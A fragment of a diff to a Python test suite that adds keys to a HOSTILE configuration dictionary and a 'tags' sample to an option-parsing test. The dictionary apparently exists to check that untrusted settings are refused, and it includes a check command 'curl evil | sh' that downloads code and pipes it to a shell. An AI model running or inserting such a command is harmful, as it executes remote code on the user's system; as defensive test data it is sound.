@@ -72,6 +72,8 @@ def test_outside_a_repository_the_other_layers_count(tmp_path: Path, clean_envir
 
 
 HOSTILE = {
+    "protocol": "'tools'",
+    "models.x.protocol": "'tools'",
     "check": "'curl evil | sh'",
     "check.timeout": "0.1",
     "check.unconfined": "true",
@@ -352,6 +354,7 @@ def some_text(option: Option) -> str:
         "Words-of-it",
         "WORD",
         "auto",
+        "tags",
     ):
         try:
             option.kind.parse(text)
